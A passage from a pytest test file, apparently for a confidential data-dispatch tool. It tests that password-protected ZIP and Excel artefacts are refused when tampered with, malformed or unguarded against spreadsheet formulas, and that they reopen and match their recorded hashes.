    "a comment": zipped(GOOD_CSV, comment=CANARY.encode()),
    "another cell": zipped(GOOD_CSV.replace(b"S2,2", f"S2,{CANARY}".encode())),
    "a row less": zipped(GOOD_CSV.removesuffix(b"S2,2\r\n")),
    "a row more": zipped(GOOD_CSV + b"S3,\r\n"),
    "a ragged row": zipped(GOOD_CSV + b"S3\r\n"),
    "another header": zipped(GOOD_CSV.replace(b"Site ID", b"Site")),
    "no header": zipped(GOOD_CSV[GOOD_CSV.index(b"S0") :]),
    "an open quote": zipped(GOOD_CSV + b'"S3'),
    "not UTF-8": zipped(GOOD_CSV.replace(b"S2", b"S\xff")),
    "nothing": b"",
    "no zip": GOOD_CSV,
}


def test_a_document_made_elsewhere_in_the_same_way_passes_the_check(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(document, "seal", lambda *_: zipped(GOOD_CSV))
    assert build(approved(table()), table(), ZIP, PASSWORD).rows == 3


@pytest.mark.parametrize("content", SPOILT_ZIPS.values(), ids=SPOILT_ZIPS)
def test_a_document_with_anything_else_in_it_does_not_leave(
    content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(document, "seal", lambda *_: content)
    with pytest.raises(PackageUnsafe) as refused:
        build(approved(table()), table(), ZIP, PASSWORD)
    assert CANARY not in shown(refused.value)


def test_a_csv_that_lost_its_guard_does_not_leave(monkeypatch: pytest.MonkeyPatch) -> None:
    frame, write = table(["=1+1"]), document.write
    monkeypatch.setattr(document, "write", lambda rows: write(rows).replace(b"'", b""))
    with pytest.raises(PackageUnsafe, match="row 1, column 2"):
        build(approved(frame, PUBLIC), frame, None, None)


# -------------------------------------------------------------------------------------------- reopening


@pytest.mark.parametrize("method", [EXCEL, ZIP])
def test_reopening_needs_the_right_password(method: Method) -> None:
    artefact = build(approved(table()), table(), method, PASSWORD)
    with pytest.raises(PackageUnsafe, match="does not open with its password"):
        reopen(artefact, password())
    with pytest.raises(PackageUnsafe, match="opens only with its password"):
        reopen(artefact, None)


def test_reopening_takes_only_artefacts_of_ours() -> None:
    artefact = build(approved(table(), PUBLIC), table(), None, None)
    with pytest.raises(PackageUnsafe, match="no artefact of ours"):
        reopen(replace(artefact, filename="sites.csv"), None)


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99], ids=["empty", "zip", "ole"]
)
def test_reopening_garbage_is_one_sentence(content: bytes) -> None:
    for name in ("data.xlsx", "data.zip"):
        garbage = Package(
            name, "application/octet-stream", content, "", encrypted=True, rows=1, columns=("a",)
        )
        with pytest.raises(PackageUnsafe):
            reopen(garbage, PASSWORD)


def dispatch(artefact: Package, method: Method) -> Dispatch:
    return Dispatch(
        key="0f4c",
        organization="partner",
        agreement="tst/partner",
        urgency=Urgency.LOW,
        purpose="referral",
        dataset="tst/sites",
        round="2026-10",
        level=Level.CONFIDENTIAL,
        columns=artefact.columns,
        indicators=(),
        grain=Grain.SITE,
        rows=artefact.rows,
        method=method,
        focal_point="tst/partner-1",
        policy_digest="sha256:00",
        artefact_path="outbox/x",
        artefact_sha256=artefact.sha256,
    )


@pytest.mark.parametrize("method", [EXCEL, ZIP])
def test_a_recorded_artefact_is_found_again(method: Method) -> None:
    artefact = build(approved(table()), table(), method, PASSWORD)
    assert recorded(dispatch(artefact, method), artefact.content) == artefact


def test_other_bytes_than_the_recorded_ones_are_refused() -> None:
    artefact = build(approved(table()), table(), EXCEL, PASSWORD)
    with pytest.raises(PackageUnsafe, match="not the artefact that was recorded"):
        recorded(dispatch(artefact, EXCEL), artefact.content + b" ")
    with pytest.raises(PackageUnsafe):
        recorded(dispatch(artefact, Method.PORTAL), artefact.content)
